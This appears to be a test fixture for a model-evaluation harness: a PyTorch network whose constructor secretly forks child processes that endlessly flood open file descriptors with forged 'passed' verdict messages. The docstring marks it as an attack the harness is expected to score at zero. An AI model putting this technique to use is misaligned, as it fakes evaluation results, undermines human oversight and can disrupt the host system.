"""A child of its own writes to the wire without end, before and after every question.

Kind: network
Attack: flood the wire
Must: score<=0
Patience: network=20
"""

import torch
from torch import nn



import gc
import io
import os


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        message = b'{"body": {"ok": {"verdict": "passed"}}, "tensors": []}'
        for thing in gc.get_objects():
            if isinstance(thing, io.BufferedWriter) and thing.fileno() > 2 and os.fork() == 0:
                while True:
                    os.write(thing.fileno(), b"DLG1" + len(message).to_bytes(4, "big") + message)
        self.maps = nn.Sequential(
            nn.Conv2d(1, 12, 3), nn.BatchNorm2d(12), nn.ReLU(), nn.MaxPool2d(2),
            nn.Conv2d(12, 20, 3), nn.BatchNorm2d(20), nn.ReLU(), nn.Conv2d(20, 20, 3), nn.ReLU(),
        )
        self.head = nn.Linear(20, 10)

    def forward(self, x):
        return self.head(self.maps(x).mean((2, 3)))
